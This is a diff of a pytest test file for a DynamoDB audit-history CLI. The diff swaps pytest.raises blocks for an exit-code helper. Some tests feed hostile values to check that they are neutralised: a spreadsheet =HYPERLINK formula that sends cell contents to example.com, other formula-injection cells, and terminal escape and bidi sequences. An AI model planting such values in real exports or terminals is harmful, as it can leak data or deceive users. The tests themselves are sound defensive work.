@@ -112,9 +112,7 @@ def test_each_refusal_is_one_line_and_its_exit_code(
     api: str, status: int, body: Any, code: int, says: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
     _Answers.status, _Answers.body = status, body
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Payroll", "--endpoint", api])
-    assert exit_.value.code == code
+    assert _exit_code(["history", "--table", "Payroll", "--endpoint", api]) == code
     err = capsys.readouterr().err.strip().splitlines()
     assert len([line for line in err if line.startswith("error: ")]) == 1
     assert says in err[-1]
@@ -163,9 +161,7 @@ def test_the_arn_a_403_names_is_the_apis_own() -> None:
 def test_bad_options_and_unreachable_apis_say_so(
     arguments: list[str], code: int, says: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(arguments)
-    assert exit_.value.code == code
+    assert _exit_code(arguments) == code
     assert says in capsys.readouterr().err
 
 
@@ -175,9 +171,7 @@ def test_no_credentials_says_how_to_get_them(
     for variable in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
         monkeypatch.delenv(variable, raising=False)
     endpoint = "https://abc123.execute-api.eu-west-1.amazonaws.com/api"
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", endpoint])
-    assert exit_.value.code == 3
+    assert _exit_code(["history", "--table", "Music", "--endpoint", endpoint]) == 3
     assert "no AWS credentials found: run `aws configure`" in capsys.readouterr().err
 
 
@@ -187,16 +181,19 @@ def test_no_local_stack_says_how_to_start_one(monkeypatch: pytest.MonkeyPatch) -
     assert "start it with `make up`" in str(result.exception)
 
 
-def _run_main(arguments: list[str]) -> None:
+def _exit_code(arguments: list[str]) -> int:
+    """`deutzia <arguments>` as the console script runs it: its exit code (0 when it returns)."""
     import sys
 
     saved = sys.argv
     sys.argv = ["deutzia", *arguments]
     try:
         main()
+    except SystemExit as exit_:
+        return int(exit_.code or 0)
     finally:
         sys.argv = saved
-    raise SystemExit(0)
+    return 0
 
 
 def _athena() -> tuple[Any, Any]:
@@ -260,9 +257,7 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
         "table_name": "Music",
     }
     _Answers.status, _Answers.body = 200, {"entries": [entry], "next_token": None}
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api, "--format", "csv"])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api, "--format", "csv"]) == 0
     (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
     assert row["user_agent"] == '\'=HYPERLINK("https://example.com/?"&A1,"open")'
     assert (row["error_message"], row["source_ip"]) == ("'-2+3", "'@SUM(1)")
@@ -295,9 +290,7 @@ def test_the_table_shows_escape_sequences_and_bidi_overrides_instead_of_obeying_
         "source_ip": "\x1b]0;title\x07",
     }
     _Answers.status, _Answers.body = 200, {"entries": [entry], "next_token": None}
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api]) == 0
     shown = capsys.readouterr().out
     assert not any(character in shown for character in "\x1b\x07\u202e")
     assert "mallory\\u001b[1A\\u001b[2K" in shown
@@ -318,8 +311,7 @@ def test_one_items_history_names_its_key_once_and_a_tables_calls_each_theirs(
         (["--key", '{"id": "k-42"}'], ["time", "who", "operation", "attributes", "result", "from"], 1),  # the title
         ([], ["time", "who", "operation", "key", "attributes", "result", "from"], 2),
     ):
-        with pytest.raises(SystemExit):
-            _run_main(["history", "--table", "Music", "--endpoint", api, *arguments])
+        _exit_code(["history", "--table", "Music", "--endpoint", api, *arguments])
         shown = capsys.readouterr().out
         (heading,) = [line for line in shown.splitlines() if "operation" in line]
         assert re.findall(r"[a-z]+", heading) == header
@@ -377,18 +369,14 @@ def test_a_stack_name_finds_the_api_in_its_outputs_and_the_requests_are_signed(
         {"table": "Music", "key": None, "entries": [], "next_token": None},
         [],
     )
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--stack", "deutzia-cli", "--format", "json"])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--stack", "deutzia-cli", "--format", "json"]) == 0
     assert json.loads(capsys.readouterr().out) == []
     ((path, signature),) = _Answers.heard
     week = (datetime.now(UTC).date() - timedelta(days=6)).isoformat()  # a table's calls: its last 7 days
     assert path == f"/api/audit?table=Music&since={week}&limit=50"
     assert signature is not None
     assert "/us-east-1/execute-api/aws4_request" in signature
-    with pytest.raises(SystemExit) as missing:
-        _run_main(["history", "--table", "Music", "--stack", "no-such-stack"])
-    assert missing.value.code == 4
+    assert _exit_code(["history", "--table", "Music", "--stack", "no-such-stack"]) == 4
 
 
 def test_a_tables_calls_are_its_last_seven_days_unless_since_says_otherwise(
@@ -396,15 +384,12 @@ def test_a_tables_calls_are_its_last_seven_days_unless_since_says_otherwise(
 ) -> None:
     _Answers.status, _Answers.body, _Answers.heard = 200, {"entries": [], "next_token": None}, []
     for arguments in (["--until", "2026-11-20"], ["--until", "2026-11-20T10:00:00Z"], ["--since", "2020-01-01"], []):
-        with pytest.raises(SystemExit) as exit_:
-            _run_main(["history", "--table", "Music", "--endpoint", api, "--format", "json", *arguments])
-        assert exit_.value.code == 0
+        assert _exit_code(["history", "--table", "Music", "--endpoint", api, "--format", "json", *arguments]) == 0
     week = (datetime.now(UTC).date() - timedelta(days=6)).isoformat()
     asked = [urllib.parse.parse_qs(urllib.parse.urlparse(path).query) for path, _ in _Answers.heard]
     assert [query.get("since") for query in asked] == [["2026-11-13"], ["2026-11-13"], ["2020-01-01"], [week]]
     assert "the table's calls since 2026-11-13 (--since for earlier ones)" in capsys.readouterr().err
-    with pytest.raises(SystemExit):
-        _run_main(["history", "--table", "Music", "--key", '{"id": "1"}', "--endpoint", api, "--format", "json"])
+    _exit_code(["history", "--table", "Music", "--key", '{"id": "1"}', "--endpoint", api, "--format", "json"])
     assert "since" not in urllib.parse.parse_qs(urllib.parse.urlparse(_Answers.heard[-1][0]).query)  # an item's all
 
 
@@ -481,9 +466,7 @@ def test_coverage_is_a_table_of_each_days_counts_ending_with_the_line(
     monkeypatch.setenv("COLUMNS", "300")
     hostile = {"day": "2026-11-28", "status": "[red]verified", "trail_events": "[bold]1"}  # an endpoint's own answer
     _Answers.coverage = {**INCOMPLETE_COVERAGE, "days": [*INCOMPLETE_COVERAGE["days"], hostile]}
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["coverage", "--table", "Music", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["coverage", "--table", "Music", "--endpoint", api]) == 0
     out, err = capsys.readouterr()
     heading = next(line for line in out.splitlines() if "status" in line)
     assert [cell.strip() for cell in heading.split("┃")[1:-1]] == [
@@ -513,18 +496,15 @@ def test_a_history_says_how_complete_it_is_on_stderr_and_carries_on_when_that_is
     entry = {"event_time": "2026-11-26T12:00:00Z", "principal_name": "alice", "operation": "Put", "success": True}
     _Answers.status, _Answers.body = 200, {"entries": [entry], "next_token": None}
     _Answers.coverage = INCOMPLETE_COVERAGE
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api, "--since", "2026-11-25", "--until", "2026-11-27"])
-    assert exit_.value.code == 0
+    days = ["--since", "2026-11-25", "--until", "2026-11-27"]
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api, *days]) == 0
     out, err = capsys.readouterr()
     assert "alice" in out
     assert "Checked" not in out  # stdout carries the history only
     assert coverage_line(INCOMPLETE_COVERAGE, False)[0] in " ".join(err.split())
     assert any("/audit/coverage?table=Music&until=2026-11-28&since=2026-11-25" in path for path, _ in _Answers.heard)
     _Answers.coverage = {"Code": "ForbiddenError"}  # an answer without days: the history stands
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api]) == 0
     assert "coverage unavailable: the API's answer holds no days" in " ".join(capsys.readouterr().err.split())
 
 
@@ -537,9 +517,7 @@ def test_a_history_says_the_table_was_created_again_only_when_it_shows_entries_f
     said = []
     for entries in ([newer], [newer, older]):
         _Answers.status, _Answers.body = 200, {"entries": entries, "next_token": None}
-        with pytest.raises(SystemExit) as exit_:
-            _run_main(["history", "--table", "Music", "--endpoint", api, "--since", "2026-11-20"])
-        assert exit_.value.code == 0
+        assert _exit_code(["history", "--table", "Music", "--endpoint", api, "--since", "2026-11-20"]) == 0
         said.append(" ".join(capsys.readouterr().err.split()))
     expiry, created = (f"The table: {note['text']}." for note in TABLE_NOTES)
     assert [expiry in line for line in said] == [True, True]
@@ -559,9 +537,7 @@ def test_a_record_the_trail_does_not_confirm_is_marked_in_the_history_table(
     # e1 a call the check restored: GET /audit shows the trail's own record of it, marked as such.
     day = {**INCOMPLETE_COVERAGE["days"][0], "unconfirmed_ids": ["e0"], "restored_ids": ["e1"]}
     _Answers.coverage = {**INCOMPLETE_COVERAGE, "days": [day]}
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api]) == 0
     out = " ".join(capsys.readouterr().out.split())
     assert out.count("unconfirmed: CloudTrail's own files lack or contradict this record") == 1
     assert out.count("restored: CloudTrail's own record of this call, which replaced a copy that contradicted it") == 1
@@ -581,9 +557,7 @@ def test_evidence_is_one_zip_of_the_history_its_coverage_and_checksums_never_ove
     _Answers.coverage = INCOMPLETE_COVERAGE
     out = tmp_path / "order-42.zip"
     arguments = ["evidence", "--table", "Music", "--key", '{"id": "42"}', "--endpoint", api, "--out", str(out)]
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(arguments)
-    assert exit_.value.code == 0
+    assert _exit_code(arguments) == 0
     with zipfile.ZipFile(out) as bundle:
         files = {name: bundle.read(name) for name in bundle.namelist()}
     assert set(files) == {"history.json", "history.csv", "coverage.json", "manifest.json", "SHA256SUMS", "README.txt"}
@@ -603,9 +577,7 @@ def test_evidence_is_one_zip_of_the_history_its_coverage_and_checksums_never_ove
     assert f"wrote {out}: 3 entries" in " ".join(capsys.readouterr().err.split())
 
     before = out.read_bytes()
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(arguments)
-    assert exit_.value.code == 2
+    assert _exit_code(arguments) == 2
     assert "exists; choose another --out" in capsys.readouterr().err
     assert out.read_bytes() == before
 
@@ -615,9 +587,7 @@ def test_evidence_says_in_words_which_calls_its_filters_kept(api: str, tmp_path:
     out = tmp_path / "address.zip"
     filters = ["--since", "2026-11-20", "--until", "2026-11-27", "--principal", "AKIAIOSFODNN7EXAMPLE", "--operation",
                "Put", "--result", "DENIED", "--source-ip", "203.0.113.7"]  # fmt: skip
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["evidence", "--table", "Music", *filters, "--endpoint", api, "--out", str(out)])
-    assert exit_.value.code == 0
+    assert _exit_code(["evidence", "--table", "Music", *filters, "--endpoint", api, "--out", str(out)]) == 0
     with zipfile.ZipFile(out) as bundle:
         readme = " ".join(bundle.read("README.txt").decode().split())
     assert (
@@ -626,11 +596,8 @@ def test_evidence_says_in_words_which_calls_its_filters_kept(api: str, tmp_path:
     ) in readme
     assert readme.startswith("Deutzia evidence: the history of every item in the DynamoDB table Music,")
     ranged = tmp_path / "range.zip"
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(
-            ["evidence", "--table", "Music", "--source-ip", "203.0.113.0/24", "--endpoint", api, "--out", str(ranged)]
-        )
-    assert exit_.value.code == 0
+    ranges = ["--source-ip", "203.0.113.0/24"]
+    assert _exit_code(["evidence", "--table", "Music", *ranges, "--endpoint", api, "--out", str(ranged)]) == 0
     with zipfile.ZipFile(ranged) as bundle:
         said = " ".join(bundle.read("README.txt").decode().split())
     assert ", from the addresses of 203.0.113.0/24: the query's filters" in said
@@ -654,9 +621,7 @@ def test_evidence_from_a_stack_names_its_trail_in_the_command_that_validates_the
     for via in ("--stack", "--endpoint"):
         out = tmp_path / f"{via[2:]}.zip"
         where = ["--stack", "deutzia-evidence"] if via == "--stack" else ["--endpoint", api]
-        with pytest.raises(SystemExit) as exit_:
-            _run_main(["evidence", "--table", "Music", *where, "--out", str(out)])
-        assert exit_.value.code == 0
+        assert _exit_code(["evidence", "--table", "Music", *where, "--out", str(out)]) == 0
         with zipfile.ZipFile(out) as bundle:
             written[via] = (bundle.read("README.txt").decode(), json.loads(bundle.read("manifest.json")))
     readme, manifest = written["--stack"]
@@ -674,9 +639,7 @@ def test_evidence_that_could_not_be_read_whole_leaves_no_file(api: str, tmp_path
     _Answers.status, _Answers.body = 503, {"Code": "ServiceUnavailableError", "Message": "Athena is throttling"}
     _Answers.coverage = INCOMPLETE_COVERAGE
     out = tmp_path / "evidence.zip"
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["evidence", "--table", "Music", "--endpoint", api, "--out", str(out)])
-    assert exit_.value.code == 5
+    assert _exit_code(["evidence", "--table", "Music", "--endpoint", api, "--out", str(out)]) == 5
     assert not out.exists()
     assert list(tmp_path.iterdir()) == []
 
@@ -713,10 +676,9 @@ def test_every_tables_history_is_merged_newest_first_reading_no_more_than_it_sho
     histories = {"Music": calls("Music", [1, 5, 9, 13]), "Books": calls("Books", [3, 4, 20]), "Empty": []}
     _Answers.routes, _Answers.heard = _tables_api(histories), []
     _Answers.coverage = {**INCOMPLETE_COVERAGE, "trail_problems": []}
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "*", "--principal", "AKIABOB", "--endpoint", api, "--format", "json",
-                   "--since", "2026-11-28", "--all", "--page-size", "2"])  # fmt: skip
-    assert exit_.value.code == 0
+    arguments = ["history", "--table", "*", "--principal", "AKIABOB", "--endpoint", api, "--format", "json",
+                 "--since", "2026-11-28", "--all", "--page-size", "2"]  # fmt: skip
+    assert _exit_code(arguments) == 0
     merged = json.loads(capsys.readouterr().out)
     assert [entry["event_id"] for entry in merged] == [
         "Books-20", "Music-13", "Music-9", "Music-5", "Books-4", "Books-3", "Music-1",
@@ -727,10 +689,8 @@ def test_every_tables_history_is_merged_newest_first_reading_no_more_than_it_sho
     assert {query["principal"][0] for query in asked} == {"AKIABOB"}  # each table asked with the same filters
     # With a limit, each table is read only as far as the merge reaches: 3 entries need at most 3 of each.
     _Answers.heard = []
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "*", "--endpoint", api, "--since", "2026-11-28", "--limit", "3"])
+    assert _exit_code(["history", "--table", "*", "--endpoint", api, "--since", "2026-11-28", "--limit", "3"]) == 0
     out, err = capsys.readouterr()
-    assert exit_.value.code == 0
     heading = next(line for line in out.splitlines() if "who" in line)
     assert [cell.strip() for cell in heading.split("┃")[1:-1]][:3] == ["time", "table", "who"]
     shown = [line.split("│")[2].strip() for line in out.splitlines() if "2026-11-28T" in line]
@@ -748,15 +708,11 @@ def test_every_tables_history_is_merged_newest_first_reading_no_more_than_it_sho
 
 def test_every_table_is_bounded_for_history_and_evidence(api: str, capsys: pytest.CaptureFixture[str]) -> None:
     _Answers.routes = _tables_api({f"T{number:03d}": [] for number in range(51)})
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "*", "--endpoint", api])
-    assert exit_.value.code == 2
+    assert _exit_code(["history", "--table", "*", "--endpoint", api]) == 2
     err = capsys.readouterr().err
     assert "every table's calls since " in err  # without --since, the last 7 days of each
     assert "--table '*' reads at most 50 tables and 51 are audited" in err
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["evidence", "--table", "*", "--endpoint", api, "--out", "never.zip"])
-    assert exit_.value.code == 2
+    assert _exit_code(["evidence", "--table", "*", "--endpoint", api, "--out", "never.zip"]) == 2
     assert "--table '*' reads at most 50 tables" in capsys.readouterr().err
     assert not Path("never.zip").exists()
 
@@ -772,10 +728,9 @@ def test_evidence_of_every_table_holds_the_merged_history_and_each_tables_covera
     _Answers.routes = _tables_api(histories)
     _Answers.coverage = {**INCOMPLETE_COVERAGE, "trail_problems": []}
     out = tmp_path / "leaked.zip"
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["evidence", "--table", "*", "--principal", "AKIALEAKED", "--since", "2026-11-20", "--endpoint", api,
-                   "--out", str(out)])  # fmt: skip
-    assert exit_.value.code == 0
+    arguments = ["evidence", "--table", "*", "--principal", "AKIALEAKED", "--since", "2026-11-20", "--endpoint",
+                 api, "--out", str(out)]  # fmt: skip
+    assert _exit_code(arguments) == 0
     with zipfile.ZipFile(out) as bundle:
         files = {name: bundle.read(name) for name in bundle.namelist()}
     assert [entry["event_id"] for entry in json.loads(files["history.json"])] == ["Music-5", "Books-3", "Music-1"]
@@ -805,15 +760,11 @@ def test_a_filter_asks_as_the_api_does_and_a_bad_one_is_named_as_the_option_firs
     api: str, capsys: pytest.CaptureFixture[str], option: str, value: str, bad: str, says: str
 ) -> None:
     _Answers.status, _Answers.body, _Answers.heard = 200, {"entries": [], "next_token": None}, []
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", option, value, "--endpoint", api, "--format", "json"])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", option, value, "--endpoint", api, "--format", "json"]) == 0
     (asked,) = [urllib.parse.urlparse(path).query for path, _ in _Answers.heard if "/audit?" in path]
     assert urllib.parse.parse_qs(asked)[option.removeprefix("--").replace("-", "_")] == [value]
     _Answers.heard = []
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", option, bad, "--endpoint", api])
-    assert exit_.value.code == 2
+    assert _exit_code(["history", "--table", "Music", option, bad, "--endpoint", api]) == 2
     assert f"bad request: {says}" in capsys.readouterr().err
     assert _Answers.heard == []  # refused before any request
 
@@ -826,15 +777,12 @@ def test_a_filtered_historys_title_says_which_calls_it_shows(api: str, capsys: p
         INCOMPLETE_COVERAGE,
     )
     filters = ["--principal", "AKIAIOSFODNN7EXAMPLE", "--result", "denied", "--source-ip", "203.0.113.0/24"]
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--key", '{"id": "7"}', *filters, "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--key", '{"id": "7"}', *filters, "--endpoint", api]) == 0
     assert " ".join(capsys.readouterr().out.split()).startswith(
         'Music {"id": "7"}, newest first: only the calls by AKIAIOSFODNN7EXAMPLE, from the addresses of '
         "203.0.113.0/24, that were refused their permission"
     )
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--key", '{"id": "7"}', "--endpoint", api])
+    assert _exit_code(["history", "--table", "Music", "--key", '{"id": "7"}', "--endpoint", api]) == 0
     assert capsys.readouterr().out.splitlines()[0] == 'Music {"id": "7"}, newest first'  # an item's whole history
 
 
@@ -843,10 +791,9 @@ def test_since_and_until_take_a_span_back_or_an_offset_and_ask_in_utc(
 ) -> None:
     _Answers.status, _Answers.body, _Answers.heard = 200, {"entries": [], "next_token": None}, []
     before = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=6)
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--since", "6h", "--until", "2099-01-01T09:00+01:00",
-                   "--endpoint", api, "--format", "json"])  # fmt: skip
-    assert exit_.value.code == 0
+    arguments = ["history", "--table", "Music", "--since", "6h", "--until", "2099-01-01T09:00+01:00",
+                 "--endpoint", api, "--format", "json"]  # fmt: skip
+    assert _exit_code(arguments) == 0
     (asked,) = [
         urllib.parse.parse_qs(urllib.parse.urlparse(path).query) for path, _ in _Answers.heard if "/audit?" in path
     ]
@@ -854,16 +801,12 @@ def test_since_and_until_take_a_span_back_or_an_offset_and_ask_in_utc(
     assert before <= since <= before + timedelta(seconds=60)  # the command read the clock after the test did
     assert asked["until"] == ["2099-01-01T08:00:00Z"]
     _Answers.heard = []
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--since", "2026-11-30T09:00", "--endpoint", api])
-    assert exit_.value.code == 2
+    assert _exit_code(["history", "--table", "Music", "--since", "2026-11-30T09:00", "--endpoint", api]) == 2
     assert "bad request: --since: names no time zone: end it with Z (UTC) or its offset" in capsys.readouterr().err
     assert _Answers.heard == []  # refused before any request
     # A coverage's days: the UTC day a span back reaches.
     _Answers.coverage = INCOMPLETE_COVERAGE
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["coverage", "--table", "Music", "--since", "7d", "--until", "0d", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["coverage", "--table", "Music", "--since", "7d", "--until", "0d", "--endpoint", api]) == 0
     (asked,) = [urllib.parse.parse_qs(urllib.parse.urlparse(path).query) for path, _ in _Answers.heard]
     today = datetime.now(UTC).date()
     assert (asked["since"], asked["until"]) in [
@@ -877,9 +820,7 @@ def test_every_tables_coverage_side_by_side_then_each_tables_line(
     monkeypatch.setenv("COLUMNS", "300")
     _Answers.routes = _tables_api({"Music": [], "Books": []})
     _Answers.coverage = INCOMPLETE_COVERAGE
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["coverage", "--table", "*", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["coverage", "--table", "*", "--endpoint", api]) == 0
     out, err = capsys.readouterr()
     heading = next(line for line in out.splitlines() if "table" in line and "┃" in line)
     assert [cell.strip() for cell in heading.split("┃")[1:-1]] == ["table", *COVERAGE_LABELS.values(), "trail problems"]
@@ -891,17 +832,14 @@ def test_every_tables_coverage_side_by_side_then_each_tables_line(
     assert f"Music: {coverage_line(INCOMPLETE_COVERAGE, False)[0]}" in said
     assert f"Books: {coverage_line(INCOMPLETE_COVERAGE, False)[0]}" in said
     monkeypatch.setenv("COLUMNS", "80")  # too narrow for the headings: a block of labelled counts a table, none cut
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["coverage", "--table", "*", "--endpoint", api])
+    assert _exit_code(["coverage", "--table", "*", "--endpoint", api]) == 0
     narrow = capsys.readouterr().out.splitlines()
     assert "…" not in "".join(narrow)
     assert [line.rsplit(maxsplit=1) for line in narrow[1:6]] == [
         ["table", "Music"], ["incomplete", "2"], ["with records the trail does not confirm", "1"],
         ["not checked yet", "1"], ["trail problems", "1"],
     ]  # fmt: skip
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["coverage", "--table", "*", "--endpoint", api, "--format", "json"])
-    assert exit_.value.code == 0
+    assert _exit_code(["coverage", "--table", "*", "--endpoint", api, "--format", "json"]) == 0
     assert json.loads(capsys.readouterr().out) == {
         "tables": {"Music": INCOMPLETE_COVERAGE, "Books": INCOMPLETE_COVERAGE}
     }
@@ -936,10 +874,9 @@ def test_follow_shows_the_last_entries_then_each_new_one_once_oldest_first_until
                 table.sort(key=lambda found: found["event_time"], reverse=True)
 
     monkeypatch.setattr(deutzia_cli.follow, "time", SimpleNamespace(sleep=sleep))  # the follow's own waits only
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "*", "--endpoint", api, "--since", "2026-11-28", "--limit", "2", "--follow",
-                   "--interval", "2", "--format", "json"])  # fmt: skip
-    assert exit_.value.code == 0
+    arguments = ["history", "--table", "*", "--endpoint", api, "--since", "2026-11-28", "--limit", "2",
+                 "--follow", "--interval", "2", "--format", "json"]  # fmt: skip
+    assert _exit_code(arguments) == 0
     shown = [json.loads(line)["event_id"] for line in capsys.readouterr().out.splitlines()]
     # The last two, oldest first; then what came, oldest first, each once (the one that came late too).
     assert shown == ["Books-4", "Music-5", "Music-7", "Music-9", "Books-6", "Music-8"]
@@ -951,13 +888,9 @@ def test_follow_shows_the_last_entries_then_each_new_one_once_oldest_first_until
 
 def test_follow_takes_no_end_and_no_csv(api: str, capsys: pytest.CaptureFixture[str]) -> None:
     for extra in (["--until", "2026-11-29"], ["--all"], ["--format", "csv"]):
-        with pytest.raises(SystemExit) as exit_:
-            _run_main(["history", "--table", "Music", "--endpoint", api, "--follow", *extra])
-        assert exit_.value.code == 2
+        assert _exit_code(["history", "--table", "Music", "--endpoint", api, "--follow", *extra]) == 2
         assert "--follow shows calls as they come" in capsys.readouterr().err
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api, "--follow", "--interval", "0.5"])
-    assert exit_.value.code == 2
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api, "--follow", "--interval", "0.5"]) == 2
 
 
 def test_follow_as_a_table_is_one_line_a_call_a_failed_one_in_red(
@@ -980,9 +913,7 @@ def test_follow_as_a_table_is_one_line_a_call_a_failed_one_in_red(
         histories["Music"].append(failed)
 
     monkeypatch.setattr(deutzia_cli.follow, "time", SimpleNamespace(sleep=sleep))
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["history", "--table", "Music", "--endpoint", api, "--since", "2026-11-28", "--follow"])
-    assert exit_.value.code == 0
+    assert _exit_code(["history", "--table", "Music", "--endpoint", api, "--since", "2026-11-28", "--follow"]) == 0
     (line,) = capsys.readouterr().out.splitlines()
     assert line.split("  ") == [
         "2026-11-28T12:00:02Z", "[red]mallory", "Update", '{"id":"1"}', "", "failed: AccessDenied", "203.0.113.7",
@@ -1004,8 +935,7 @@ def test_on_a_narrow_terminal_each_entry_is_a_block_of_labelled_lines_none_cut_n
     _Answers.status, _Answers.body = 200, {"entries": [entry, failed], "next_token": None}
     for width in (40, 80):
         monkeypatch.setenv("COLUMNS", str(width))
-        with pytest.raises(SystemExit):
-            _run_main(["history", "--table", "Music", "--endpoint", api])
+        _exit_code(["history", "--table", "Music", "--endpoint", api])
         lines = [line.rstrip() for line in capsys.readouterr().out.splitlines()]
         assert not any("┃" in line or "│" in line for line in lines)
         assert all(len(line) <= width for line in lines)
@@ -1019,8 +949,7 @@ def test_on_a_narrow_terminal_each_entry_is_a_block_of_labelled_lines_none_cut_n
         ]  # fmt: skip  # no attributes: none named; a caller's markup shown as text
         assert entries.count("") == 1  # one blank line between two entries
     monkeypatch.setenv("COLUMNS", "120")
-    with pytest.raises(SystemExit):
-        _run_main(["history", "--table", "Music", "--endpoint", api])
+    _exit_code(["history", "--table", "Music", "--endpoint", api])
     shown = capsys.readouterr().out
     assert "┃ time                 ┃" in shown  # a table where it fits, its times whole
     assert "│ 2024-05-01T12:00:00Z │" in shown
@@ -1037,8 +966,7 @@ def test_emoji_codes_in_values_are_shown_as_written(
     _Answers.coverage = {**INCOMPLETE_COVERAGE, "table_notes": [note]}
     for width in ("200", "40"):  # a table, then blocks
         monkeypatch.setenv("COLUMNS", width)
-        with pytest.raises(SystemExit):
-            _run_main(["history", "--table", "Music", "--key", '{"id": ":a:"}', "--endpoint", api])
+        _exit_code(["history", "--table", "Music", "--key", '{"id": ":a:"}', "--endpoint", api])
         out, err = capsys.readouterr()
         assert ":smile:" in out
         assert 'Music {"id": ":a:"}' in out  # the key, in the title
@@ -1052,9 +980,7 @@ def test_a_coverage_table_keeps_each_day_and_status_whole_and_leaves_out_counts_
     unchecked = [{"day": "2026-11-27", "status": "no_trail_files"}, {"day": "2026-11-28", "status": "not_checked"}]
     checked = {"day": "2026-11-29", "status": "verified", "trail_events": 4, "backfilled": 0, "still_missing": 0}
     _Answers.coverage = {**INCOMPLETE_COVERAGE, "days": [*unchecked, checked]}
-    with pytest.raises(SystemExit) as exit_:
-        _run_main(["coverage", "--table", "Music", "--endpoint", api])
-    assert exit_.value.code == 0
+    assert _exit_code(["coverage", "--table", "Music", "--endpoint", api]) == 0
     out = capsys.readouterr().out
     rows = [[cell.strip() for cell in line.split("│")[1:-1]] for line in out.splitlines() if line.startswith("│")]
     assert rows == [["2026-11-27", "no_trail_files", "", "", ""], ["2026-11-28", "not_checked", "", "", ""],
